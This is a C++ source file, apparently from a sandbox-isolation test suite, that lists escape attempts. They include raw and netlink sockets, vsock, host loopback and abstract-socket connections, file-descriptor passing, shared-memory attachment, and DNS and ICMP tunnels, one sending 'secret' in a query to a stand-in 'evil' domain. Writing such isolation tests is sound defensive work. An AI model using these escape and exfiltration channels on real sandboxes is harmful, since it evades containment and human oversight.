// SPDX-License-Identifier: Apache-2.0
// By sockets and shared memory.
#include <arpa/inet.h>
#include <fcntl.h>
#include <ifaddrs.h>
#include <linux/if_packet.h>
#include <linux/netlink.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <cstddef>
#include <cstdio>
#include <cstdlib>
#include <cstring>

#include "attempt.h"

namespace escape {
namespace {

bool rawSocket(const Words&) { return socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) >= 0; }
bool packetSocket(const Words&) { return socket(AF_PACKET, SOCK_DGRAM, 0) >= 0; }
bool filterSocket(const Words&) { return wasLetIn(socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER)); }
bool eventSocket(const Words&) { return wasLetIn(socket(AF_NETLINK, SOCK_RAW, NETLINK_KOBJECT_UEVENT)); }
bool machineSocket(const Words&) { return wasLetIn(socket(AF_VSOCK, SOCK_STREAM, 0)); }
bool cipherSocket(const Words&) { return wasLetIn(socket(AF_ALG, SOCK_SEQPACKET, 0)); }

sockaddr_in loopback(const Words& words) {
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<std::uint16_t>(std::atoi(words[0].c_str())));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return address;
}

bool connects(const Words& words) {
  sockaddr_in address = loopback(words);
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  return connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address) == 0;
}

// A name server that answers is a way out: what is said stands in the name that is asked for.
bool tunnelByNames(const Words& words) {
  sockaddr_in address = loopback(words);
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  const char question[] =
      "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04"
      "evil\x00\x00\x10\x00\x01";
  char answer[512];
  if (connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) return false;
  if (send(fd, question, sizeof question - 1, 0) < 0) return false;
  pollfd wait{fd, POLLIN, 0};
  return poll(&wait, 1, 1000) == 1 && recv(fd, answer, sizeof answer, 0) > 0;
}

// An echo request to this host: what is said stands in its body.
bool tunnelByEcho(const Words&) {
  for (int type : {SOCK_DGRAM, SOCK_RAW}) {
    int fd = socket(AF_INET, type | SOCK_CLOEXEC, IPPROTO_ICMP);
    if (fd < 0) continue;
    icmphdr echo{};
    echo.type = ICMP_ECHO;
    sockaddr_in address = loopback({"0"});
    if (sendto(fd, &echo, sizeof echo, 0, reinterpret_cast<const sockaddr*>(&address), sizeof address) > 0) return true;
  }
  return false;
}

bool otherInterfaces(const Words&) {
  ifaddrs* all = nullptr;
  if (getifaddrs(&all) != 0) return false;
  bool found = false;
  for (auto* one = all; one != nullptr; one = one->ifa_next) found = found || std::strcmp(one->ifa_name, "lo") != 0;
  freeifaddrs(all);
  return found;
}

// The packet size that loopback has already.
bool configure(const Words&) {
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  ifreq request{};
  std::strcpy(request.ifr_name, "lo");
  return ioctl(fd, SIOCGIFMTU, &request) == 0 && ioctl(fd, SIOCSIFMTU, &request) == 0;
}

struct Abstract {
  explicit Abstract(const std::string& name) {
    address.sun_family = AF_UNIX;
    name.copy(address.sun_path + 1, sizeof address.sun_path - 1);
    size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
  }
  const sockaddr* get() const { return reinterpret_cast<const sockaddr*>(&address); }
  sockaddr_un address{};
  socklen_t size;
};

bool connectAbstract(const Words& words) {
  const Abstract name(words[0]);
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  return connect(fd, name.get(), name.size) == 0;
}

struct Named {
  explicit Named(const std::string& path) {
    address.sun_family = AF_UNIX;
    path.copy(address.sun_path, sizeof address.sun_path - 1);
  }
  const sockaddr* get() const { return reinterpret_cast<const sockaddr*>(&address); }
  sockaddr_un address{};
};

int listenAt(const std::string& where) {
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  const Abstract abstract(where);
  const Named named(where);
  const bool bound =
      where[0] == '/' ? bind(fd, named.get(), sizeof named.address) == 0 : bind(fd, abstract.get(), abstract.size) == 0;
  return bound && listen(fd, 4) == 0 ? fd : -1;
}

int connectTo(const std::string& where) {
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  const Abstract abstract(where);
  const Named named(where);
  const bool reached = where[0] == '/' ? connect(fd, named.get(), sizeof named.address) == 0
                                       : connect(fd, abstract.get(), abstract.size) == 0;
  return reached ? fd : -1;
}

struct Message {
  Message() {
    text.iov_base = &letter;
    text.iov_len = 1;
    header.msg_iov = &text;
    header.msg_iovlen = 1;
    header.msg_control = control;
    header.msg_controllen = sizeof control;
  }
  char letter = 'x';
  iovec text{};
  alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int))] = {};
  msghdr header{};
};

// Gives whoever comes a descriptor of that file.
bool giveDescriptor(const Words& words) {
  int place = listenAt(words[0]), file = open(words[1].c_str(), O_RDONLY | O_CLOEXEC);
  if (place < 0 || file < 0) return false;
  std::printf("offering\n");
  std::fflush(stdout);
  pollfd wait{place, POLLIN, 0};
  if (poll(&wait, 1, 20'000) != 1) return false;
  int other = accept(place, nullptr, nullptr);
  Message message;
  cmsghdr* header = CMSG_FIRSTHDR(&message.header);
  header->cmsg_level = SOL_SOCKET;
  header->cmsg_type = SCM_RIGHTS;
  header->cmsg_len = CMSG_LEN(sizeof file);
  std::memcpy(CMSG_DATA(header), &file, sizeof file);
  return sendmsg(other, &message.header, 0) == 1;
}

bool takeDescriptor(const Words& words) {
  int other = connectTo(words[0]);
  Message message;
  if (other < 0 || recvmsg(other, &message.header, 0) != 1) return false;
  const cmsghdr* header = CMSG_FIRSTHDR(&message.header);
  int file = -1;
  if (header == nullptr) return false;
  std::memcpy(&file, CMSG_DATA(header), sizeof file);
  char text[256] = {};
  if (read(file, text, sizeof text - 1) <= 0) return false;
  std::printf("got: %s\n", text);
  return true;
}

bool attachMemory(const Words& words) {
  const int segment = shmget(static_cast<key_t>(std::atoi(words[0].c_str())), 0, 0);
  return segment >= 0 && shmat(segment, nullptr, SHM_RDONLY) != reinterpret_cast<void*>(-1);
}

constexpr Attempt kAttempts[] = {
    {"raw_socket", 0, "opens a raw socket", rawSocket},
    {"packet_socket", 0, "opens a packet socket", packetSocket},
    {"netfilter_socket", 0, "talks to the packet filter", filterSocket},
    {"uevent_socket", 0, "listens to the kernel's device events", eventSocket},
    {"vsock", 0, "opens a socket to the hypervisor", machineSocket},
    {"af_alg", 0, "opens a socket of the kernel's ciphers", cipherSocket},
    {"connect", 1, "connects to a port of the host's loopback", connects},
    {"dns_tunnel", 1, "sends what it knows in a question to a name server", tunnelByNames},
    {"icmp_tunnel", 0, "sends what it knows in an echo request", tunnelByEcho},
    {"interfaces", 0, "sees an interface other than loopback", otherInterfaces},
    {"configure", 0, "configures an interface", configure},
    {"abstract_socket", 1, "connects to an abstract socket of the host", connectAbstract},
    {"give_descriptor", 2, "gives another room a descriptor", giveDescriptor},
    {"take_descriptor", 1, "takes a descriptor from another room", takeDescriptor},
    {"shared_memory", 1, "attaches shared memory of the host", attachMemory},
};

}  // namespace

std::span<const Attempt> networkAttempts() { return kAttempts; }

}  // namespace escape
